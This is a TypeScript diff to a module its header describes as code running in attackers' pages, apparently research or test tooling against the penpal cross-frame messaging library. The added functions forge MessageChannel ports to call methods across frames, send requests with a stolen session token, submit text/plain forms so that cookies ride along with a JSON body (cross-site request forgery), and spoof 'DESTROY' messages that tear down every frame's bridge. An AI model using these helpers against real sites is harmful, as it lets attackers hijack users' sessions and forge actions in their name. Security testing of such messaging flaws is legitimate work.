@@ -2,6 +2,12 @@
  * What runs in pages of attackers, by its source: each function stands alone, and what it needs comes as arguments.
  */
 
+interface Reply {
+  type?: string;
+  isError?: boolean;
+  value?: { ok?: boolean; value?: unknown };
+}
+
 /**
  * Hands every frame of a window a port of our own, as if we were the other side of the bridge, and calls a method over it.
  * Answers what is replied; undefined where nothing is within `waitMs`.
@@ -20,8 +26,9 @@ export async function callOverOwnPort(
   const replies = windowsOf(target).map((victim) => {
     const { port1, port2 } = new MessageChannel();
     const reply = new Promise<unknown>((resolve) => {
-      port1.onmessage = ({ data }: MessageEvent<{ type?: string; value?: { ok?: boolean; value?: unknown } }>) => {
-        if (data.type === 'REPLY' && data.value?.ok) resolve(data.value.value);
+      port1.onmessage = ({ data }: MessageEvent<Reply>) => {
+        if (data.type === 'REPLY' && !data.isError && data.value?.ok !== false)
+          resolve(data.value?.value ?? data.value);
       };
     });
     victim.postMessage({ ...base, type: 'ACK2' }, '*', [port2]);
@@ -53,6 +60,29 @@ export async function frame(src: string, waitMs: number): Promise<unknown[]> {
 export async function openSession(url: string, form: Record<string, string>): Promise<string> {
   const answer = await fetch(url, { method: 'POST', body: new URLSearchParams(form) }).catch(() => undefined);
   return answer ? answer.text() : '';
+}
+
+/** Sends JSON with a session that was stolen. Whether the page may read the answer is another matter. */
+export async function useSession(url: string, token: string, body: object): Promise<void> {
+  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+  await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) }).catch(() => undefined);
+}
+
+/** Leaves for the address with a form whose text is JSON: nothing else takes cookies along, or is given any. */
+export function postAsForm(url: string, name: string, value: string): void {
+  const form = document.createElement('form');
+  Object.assign(form, { method: 'post', enctype: 'text/plain', action: url });
+  form.append(Object.assign(document.createElement('input'), { name, value }));
+  document.body.append(form);
+  form.submit();
+}
+
+/** Says to every frame of a window, as its other side would, that the bridge has ended. */
+export function endBridges(target: Window): void {
+  target.postMessage({ namespace: 'penpal', channel: undefined, type: 'DESTROY' }, '*');
+  for (let index = 0; index < target.length; index++) {
+    target[index]!.postMessage({ namespace: 'penpal', channel: undefined, type: 'DESTROY' }, '*');
+  }
 }
 
 /** Has a copy of each port over which this page's scripts talk, from now on. */
